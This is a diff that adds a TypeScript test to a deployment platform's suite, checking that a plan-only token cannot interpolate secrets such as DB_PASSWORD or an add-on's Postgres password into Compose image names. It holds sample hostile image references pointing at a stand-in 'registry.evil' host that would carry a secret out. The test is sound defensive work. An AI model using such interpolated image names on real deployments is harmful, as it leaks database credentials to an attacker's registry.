@@ -1,4 +1,5 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are texts of Compose
+import { addAddon } from "@berth/domain/addon/add.ts";
 import { createApp } from "@berth/domain/app/create.ts";
 import { listAudit } from "@berth/domain/audit/audit.ts";
 import { deploy, rollback, startApp } from "@berth/domain/deployment/deploy.ts";
@@ -151,6 +152,33 @@ test("who may only plan has no registry told a secret by the name of an image", 
     expect((await makePlan(tenant.ctx, asked(image))).id).toMatch(/^pln_/);
   }
   expect((await makePlan(planner, asked("registry.test/web:${TAG}"))).variables).toHaveLength(2);
+});
+
+test("nor by a variable of what is included, nor an add-on's password", async () => {
+  const tenant = await ready();
+  await set(tenant, { DB_PASSWORD: "a secret" });
+  await addAddon(tenant.ctx, { app: APP, kind: "postgres" });
+  const planner = { ...tenant.ctx, actor: { kind: "token" as const, id: "tok_1", scopes: ["plan" as const] } };
+  const planned = (image: string, env = "") => {
+    const files = [
+      ["compose.yaml", "include: [{path: a/compose.yaml, env_file: [a/more.env]}]\n"],
+      ["a/compose.yaml", `services: {web: {image: "${image}"}}\n`],
+      ["a/more.env", env],
+    ].map(([path = "", content = ""]) => ({ path, content: Buffer.from(content).toString("base64") }));
+    return makePlan(planner, { app: APP, bundle: { composeFiles: ["compose.yaml"], files, variables: {} } });
+  };
+  const refused = [
+    ["${IMAGE}", "IMAGE=registry.evil/a:${DB_PASSWORD}\n"],
+    ["registry.evil/a:${PGPASSWORD}"],
+    ["${DATABASE_URL}"],
+    ["registry.evil/a:${BERTH_ADDON_POSTGRES_PASSWORD}"],
+  ] as const;
+  for (const [image, env] of refused)
+    await expect(planned(image, env), image).rejects.toMatchObject({
+      code: "token.scope",
+      detail: expect.stringContaining("names the secret"),
+    });
+  expect((await planned("${IMAGE}", "IMAGE=registry.test/web:${PGUSER}\n")).id).toMatch(/^pln_/);
 });
 
 test("names of ours are given where a Compose file names them, and refused in .env", async () => {
